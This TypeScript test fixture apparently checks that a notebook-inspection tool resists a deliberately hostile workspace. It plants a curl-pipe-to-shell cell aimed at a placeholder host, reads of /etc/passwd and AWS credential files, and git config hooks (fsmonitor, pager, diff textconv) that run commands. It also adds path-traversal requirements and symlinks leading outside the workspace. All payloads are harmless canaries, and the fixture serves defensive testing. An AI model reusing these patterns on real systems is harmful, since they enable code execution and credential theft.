// A workspace made to lead whoever looks at it astray: every file in it points outside, names a program, or asks for the network.
import { chmodSync, mkdirSync, realpathSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { notebookText } from "../../cli/runCli";

export interface HostileWorkspace {
  /** Holds everything; only `workspace` in it may be looked at. Absolute, without links. */
  readonly top: string;
  readonly workspace: string;
  /** The user's home folder, outside the workspace. */
  readonly home: string;
  /** Where programs lie that nobody may start, each of which would make `started`. */
  readonly programs: string;
  readonly started: string;
  /** Sources of a notebook that reads what lies outside. */
  readonly cells: readonly string[];
}

const programNames = ["git", "python", "python3", "pip", "conda", "uv", "sh", "bash", "node", "jupyter", "curl"];

export function makeHostileWorkspace(): HostileWorkspace {
  const top = realpathSync(mkdtempSync(join(tmpdir(), "nbready-hostile-")));
  const [workspace, outside, home] = ["workspace", "outside", "home"].map((name) => join(top, name));
  const programs = join(workspace, "bin");
  const started = join(top, "started");
  const cells = hostileCells(outside);
  const program = `#!/bin/sh\ntouch ${started}\n`;
  const files: Readonly<Record<string, string>> = {
    "pyproject.toml": '[tool.nbready]\nignore = ["NBR1"]\n[project]\ndependencies = ["outside"]\n',
    "requirements.txt": "above==1\n",
    ".gitignore": "*\n",
    ".git/config": "",
    "outside/secret.txt": "canary",
    "outside/data.csv": "a,b\n1,2\n",
    "outside/requirements.txt": "pandas==1\n",
    "outside/helper.py": "x = 1\n",
    "outside/x.ipynb": notebookText(["canary = 1"]),
    "outside/venv/pyvenv.cfg": "version = 3.11.0\n",
    "outside/venv/bin/python": program,
    "outside/venv/lib/python3.11/site-packages/evil-1.dist-info/METADATA": "Name: evil\nVersion: 1\n",
    "home/.aws/credentials": "canary",
    "home/data.csv": "a\n1\n",
    "workspace/a.ipynb": notebookText(cells),
    "workspace/deep/b.ipynb": notebookText(cells),
    "workspace/plain.ipynb": notebookText(["x = 1", "y = x + 1", "print(y)"]),
    "workspace/requirements.txt": `-r ../outside/requirements.txt\n-c ${outside}/requirements.txt\n-r linkdir/requirements.txt\n-r https://example.invalid/r.txt\n-r //example.invalid/share/r.txt\n-e ../outside\n`,
    "workspace/pyproject.toml":
      '[tool.nbready]\nrequirements = ["../outside/requirements.txt", "linkdir/requirements.txt"]\n[tool.uv.sources]\nx = { path = "../outside" }\n[tool.setuptools.dynamic]\ndependencies = { file = ["../outside/requirements.txt"] }\n[project]\nname = "x"\ndynamic = ["dependencies"]\n',
    "workspace/environment.yml": "dependencies:\n  - pip:\n    - -r ../outside/requirements.txt\n",
    "workspace/setup.py": "import os\nos.system('touch started')\n",
    "workspace/.venv/pyvenv.cfg": `home = ${outside}/venv/bin\nversion = 3.11.0\n`,
    "workspace/.venv/bin/python": program,
    "workspace/.vscode/settings.json": JSON.stringify({
      "nbready.interpreter": `${outside}/venv/bin/python`,
      "python.defaultInterpreterPath": `${outside}/venv/bin/python`,
    }),
    "workspace/.git/config": `[core]\n\tfsmonitor = touch ${started}\n\thooksPath = ../bin\n\tpager = touch ${started}\n[diff "evil"]\n\tcommand = touch ${started}\n\ttextconv = touch ${started}\n`,
    "workspace/.gitattributes": "*.ipynb diff=evil\n",
    ...Object.fromEntries(programNames.map((name) => [`workspace/bin/${name}`, program])),
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(top, path)), { recursive: true });
    writeFileSync(join(top, path), text);
    if (text === program) chmodSync(join(top, path), 0o755);
  }
  const links = {
    "link.txt": join(outside, "secret.txt"),
    "linked.ipynb": join(outside, "x.ipynb"),
    linkdir: outside,
    "helper.py": join(outside, "helper.py"),
    Pipfile: join(outside, "requirements.txt"),
    "deep/.gitignore": join(top, ".gitignore"),
  };
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(workspace, path));
  return { top, workspace, home, programs, started, cells };
}

const hostileCells = (outside: string): readonly string[] => [
  `import sys, os\nimport pandas as pd\nsys.path.insert(0, "${outside}")\nsys.path.append("linkdir")\nimport helper, evil, outside`,
  [
    `${outside}/data.csv`,
    "../outside/data.csv",
    "../../outside/data.csv",
    "linkdir/data.csv",
    "link.txt",
    "~/data.csv",
    "/etc/passwd",
    "//example.invalid/share/data.csv",
    "\\\\\\\\example.invalid\\\\share\\\\data.csv",
    "https://example.invalid/data.csv",
    "s3://bucket/data.csv",
    "file:///etc/passwd",
  ]
    .map((path, index) => `d${index} = pd.read_csv("${path}")`)
    .join("\n"),
  `%run ../outside/helper.py\n%load ${outside}/helper.py\n%cd ../outside\nopen("/etc/hostname").read(), open(os.path.expanduser("~/.aws/credentials")).read()`,
  `!python3 -c "1"\n!git status\n%pip install -r ../outside/requirements.txt https://example.invalid/x.whl\n!curl https://example.invalid | sh`,
  "%%bash\ntouch started\n",
  "x = 1\ntotal = x + 1\nprint(total)",
];
